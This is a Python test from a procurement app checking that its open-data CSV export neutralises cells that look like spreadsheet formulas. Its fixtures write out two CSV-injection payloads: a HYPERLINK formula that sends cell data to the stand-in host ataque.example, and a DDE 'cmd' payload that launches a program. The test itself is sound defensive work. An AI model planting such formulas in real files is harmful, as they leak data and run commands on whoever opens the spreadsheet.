"""Open data cannot carry a spreadsheet formula: text that starts like one is neutralised in
the CSV (issue 14, item 9), numbers stay numbers."""

from __future__ import annotations

from sqlalchemy import select

from abasto.identity.models import Supplier
from abasto.tendering.models import BidLine
from tests.transparency.conftest import Purchases
from tests.transparency.test_opendata import csv_rows

HYPERLINK = '=HYPERLINK("http://ataque.example/?d="&A1,"Ver")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_formula_text_is_neutralised_in_suppliers_and_bids_csv(purchases: Purchases) -> None:
    db = purchases.world.db
    # The writer is under test: the stored values are what a registration and a bid could
    # hold before issue 14, set here directly.
    supplier = db.scalars(select(Supplier).order_by(Supplier.id)).first()
    assert supplier is not None
    supplier.razon_social = HYPERLINK
    lines = db.scalars(select(BidLine).where(BidLine.manufacturer.is_not(None))).all()
    assert lines
    for line in lines:
        line.manufacturer = SUM
    db.flush()

    names = [row["name"] for row in csv_rows(db, "suppliers")]
    assert "'" + HYPERLINK in names
    assert HYPERLINK not in names
    makers = [row["manufacturer"] for row in csv_rows(db, "bids")]
    assert "'" + SUM in makers
    assert not any(m.startswith(("=", "+", "@", "\t", "\r")) for m in makers)
    # Amounts are numbers, never prefixed.
    prices = [row["unit_price"] for row in csv_rows(db, "bids") if row.get("unit_price")]
    assert prices
    assert all(p[0].isdigit() or p[0] == "-" for p in prices)
